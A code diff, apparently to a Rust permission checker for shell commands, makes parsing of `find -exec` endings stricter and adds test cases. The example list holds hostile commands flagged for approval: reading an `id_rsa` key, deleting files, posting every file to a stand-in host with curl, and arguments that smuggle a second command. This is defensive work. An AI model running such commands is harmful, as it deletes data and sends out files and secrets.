@@ -220,7 +220,8 @@ fn is_newer(word: &str) -> bool {
     )
 }
 
-/// The words up to `;` or `{} +`, and whether many files are given at once.
+/// The words up to `;` or `{} +`, and whether many files are given at once. To other versions of `find` the first letter
+/// is enough, or a `+` anywhere: what only some of them take for the end stops.
 fn command_of<'a>(rest: &mut core::slice::Iter<'a, Arg>) -> Option<(Vec<&'a Arg>, bool)> {
     let mut command: Vec<&Arg> = Vec::new();
     for arg in rest {
@@ -229,8 +230,7 @@ fn command_of<'a>(rest: &mut core::slice::Iter<'a, Arg>) -> Option<(Vec<&'a Arg>
             Some("+") if command.last().and_then(|last| last.text()) == Some("{}") => {
                 return Some((command, true));
             }
-            // It may be the `;` or `+` that ends the command.
-            None if may_end_command(arg) => return None,
+            Some(_) | None if may_end_command(arg) => return None,
             Some(_) | None => command.push(arg),
         }
     }
@@ -238,13 +238,13 @@ fn command_of<'a>(rest: &mut core::slice::Iter<'a, Arg>) -> Option<(Vec<&'a Arg>
 }
 
 fn may_end_command(arg: &Arg) -> bool {
-    let ends = |text: &str| [";", "+"].contains(&text);
+    let ends = |text: &str| text.starts_with([';', '+']);
     match &arg.value {
         Value::Known(text) => ends(text),
         Value::Unknown(unknown) => match &unknown.shape {
             Shape::Number | Shape::Count | Shape::Revision => false,
             Shape::OneOf(texts) => texts.iter().any(|text| ends(text)),
-            Shape::Parts(text) => text.starts_with([';', '+']),
+            Shape::Parts(text) => ends(text),
             Shape::Free => unknown.splits || unknown.prefix.is_empty() || ends(&unknown.prefix),
         },
     }
@@ -307,6 +307,16 @@ const EXAMPLES: &str = r#"
         allow find . -name '.e*'
         ask   find ~ -name id_rsa -exec cat {} \;
         ask   find . -exec rm {} \;
+        ask   find . -maxdepth 0 -exec echo {} x + -exec touch /tmp/x \;
+        ask   find . -maxdepth 0 -exec echo x + \;
+        ask   find . -exec echo {} +x -exec touch /tmp/x \;
+        ask   find . -exec date +%s \;
+        ask   find . -maxdepth 0 -exec echo ';x' -exec touch /tmp/x \;
+        ask   find src -exec grep ';;' {} +
+        ask   find src -exec grep "+$x" {} +
+        ask   busybox find . -maxdepth 0 -exec echo {} x + -exec touch /tmp/x \;
+        allow find src -exec grep 'a;b+c' {} +
+        allow find src -exec grep -l foo {} + -exec wc -l {} \;
         ask   find . -exec sh {} \;
         ask   find . -exec {} \;
         ask   find . -exec curl -d @{} http://x.example \;
